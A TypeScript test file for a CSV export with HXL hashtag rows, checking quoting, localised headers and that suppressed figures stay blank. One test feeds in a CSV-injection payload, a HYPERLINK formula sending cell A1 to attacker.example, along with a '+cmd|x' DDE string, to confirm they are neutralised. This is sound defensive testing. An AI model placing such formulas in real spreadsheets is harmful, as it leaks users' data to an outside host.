import { describe, expect, it } from 'vitest';
import type { Report } from '../contract';
import { csvField, neutraliseFormula, reportToCsv } from './csv-hxl';
import { EXPORT_LABELS } from './labels';
import { tabEntries } from './report-view';
import { sampleReport } from './sample-report';

/** A strict RFC 4180 reader: quoted fields with doubled quotes, CRLF records; throws on a stray quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (field === '' && text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i];
        i++;
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`junk after quote at ${i}`);
      continue;
    }
    const ch = text[i] as string;
    if (ch === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error('bare CR');
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (ch === '"' || ch === '\n') throw new Error(`unquoted ${JSON.stringify(ch)} at ${i}`);
      field += ch;
      i++;
    }
  }
  if (field !== '' || record.length) throw new Error('last record without CRLF');
  return records;
}

const COLUMN = {
  code: 0,
  name: 1,
  unit: 2,
  start: 3,
  end: 4,
  spec: 5,
  dim1: 6,
  value1: 7,
  dim2: 8,
  value2: 9,
  hxl: 10,
  value: 11,
  affected: 12,
  target: 13,
  suppressed: 14,
} as const;

function read(report: Report) {
  const csv = reportToCsv(report);
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const [header = [], hashtags = [], ...rows] = parseCsv(csv.slice(1));
  return { csv, header, hashtags, rows };
}

describe('reportToCsv', () => {
  it('writes a BOM, localised headers, then an HXL hashtag row', () => {
    for (const language of ['fr', 'en'] as const) {
      const { header, hashtags, rows } = read(sampleReport(language));
      expect(header[0]).toBe(EXPORT_LABELS[language].csv.indicatorCode);
      expect(header[COLUMN.value]).toBe(EXPORT_LABELS[language].csv.value);
      expect(hashtags).toHaveLength(15);
      for (const tag of hashtags) expect(tag).toMatch(/^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$/);
      expect(hashtags[COLUMN.value]).toBe('#indicator+value+num');
      expect(hashtags[COLUMN.affected]).toBe('#affected+num');
      expect(hashtags[COLUMN.hxl]).toBe('#meta+hxl');
      for (const row of rows) expect(row).toHaveLength(15);
    }
  });

  it('has one row per indicator total and per breakdown figure, margins included', () => {
    const report = sampleReport('en');
    const { rows } = read(report);
    const expected = report.indicators.reduce(
      (n, i) => n + 1 + i.breakdowns.reduce((m, tab) => m + tabEntries(tab).length, 0),
      0,
    );
    expect(rows).toHaveLength(expected);
    const find = (code: string, spec: string, v1: string, v2: string) =>
      rows.find(
        (r) =>
          r[COLUMN.code] === code &&
          r[COLUMN.spec] === spec &&
          r[COLUMN.value1] === v1 &&
          r[COLUMN.value2] === v2,
      );
    const total = find('OP1.1.a', '', '', '');
    expect(total?.slice(COLUMN.start, COLUMN.end + 1)).toEqual(['2024-07-01', '2024-12-31']);
    expect(total?.slice(COLUMN.value)).toEqual(['183', '183', '180', '0']);
    const cell = find('OP1.1.a', 'sex*age_band', 'female', 'minor');
    expect(cell?.[COLUMN.hxl]).toBe('+f+children');
    expect(cell?.[COLUMN.value]).toBe('18');
    expect(find('OP1.1.a', 'sex*age_band', 'female', '')?.[COLUMN.hxl]).toBe('+f');
    expect(find('OP1.1.a', 'sex*age_band', '', 'adult')?.[COLUMN.hxl]).toBe('+adults');
    expect(find('OP1.1.a', 'sex*age_band', 'male', 'adult')?.[COLUMN.hxl]).toBe('+m+adults');
    expect(find('OP1.1.a', 'nationality', 'MA', '')?.[COLUMN.hxl]).toBe('');
    // Money in euros, not cents; only counts of persons fill #affected.
    expect(find('OP1.2.b', '', '', '')?.slice(COLUMN.value, COLUMN.target + 1)).toEqual([
      '482500',
      '',
      '400000',
    ]);
    expect(find('OP2.1.b', '', '', '')?.[COLUMN.affected]).toBe('');
  });

  it('never shows a number where the report has a hidden figure', () => {
    const report = sampleReport('fr');
    const { rows } = read(report);
    const hiddenInReport = new Set<string>();
    for (const indicator of report.indicators)
      for (const tab of indicator.breakdowns)
        for (const e of tabEntries(tab))
          if (e.value === null)
            hiddenInReport.add([indicator.code, tab.spec, e.row ?? '', e.col ?? ''].join('|'));
    expect(hiddenInReport.size).toBeGreaterThan(10);
    const hiddenInCsv = new Set<string>();
    for (const row of rows) {
      const key = [row[COLUMN.code], row[COLUMN.spec], row[COLUMN.value1], row[COLUMN.value2]].join('|');
      if (row[COLUMN.suppressed] === '1') {
        hiddenInCsv.add(key);
        expect(row[COLUMN.value]).toBe('');
        expect(row[COLUMN.affected]).toBe('');
      } else expect(row[COLUMN.suppressed]).toBe('0');
    }
    expect(hiddenInCsv).toEqual(hiddenInReport);
    // A manual value not entered is empty but not "hidden".
    const missing = rows.find((r) => r[COLUMN.code] === 'OC2.a');
    expect(missing?.[COLUMN.value]).toBe('');
    expect(missing?.[COLUMN.suppressed]).toBe('0');
  });

  it('neutralises formulas and quotes what RFC 4180 requires', () => {
    const report = sampleReport('en');
    const first = report.indicators[0];
    if (!first) throw new Error('no indicator');
    const title = '=HYPERLINK("http://attacker.example/?x="&A1, "Click, here")';
    const hostile: Report = {
      ...report,
      indicators: [
        { ...first, title, code: '+cmd|x' },
        ...report.indicators
          .slice(1)
          .map((i) => (i.code === 'OP1.1.a' ? { ...i, title: 'Two\r\nlines, "quoted"' } : i)),
      ],
    };
    const { csv, rows } = read(hostile);
    const row = rows[0];
    expect(row?.[COLUMN.name]).toBe(`'${title}`);
    expect(row?.[COLUMN.code]).toBe("'+cmd|x");
    expect(rows.find((r) => r[COLUMN.code] === 'OP1.1.a')?.[COLUMN.name]).toBe('Two\r\nlines, "quoted"');
    // No field that people wrote starts like a formula.
    for (const r of rows)
      r.forEach((field, i) => {
        if (i !== COLUMN.hxl) expect(field).not.toMatch(/^[=+@]|^-\D/);
      });
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(neutraliseFormula('-2+3')).toBe("'-2+3");
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseFormula('Plain')).toBe('Plain');
    expect(csvField('a"b')).toBe('"a""b"');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('plain')).toBe('plain');
  });
});
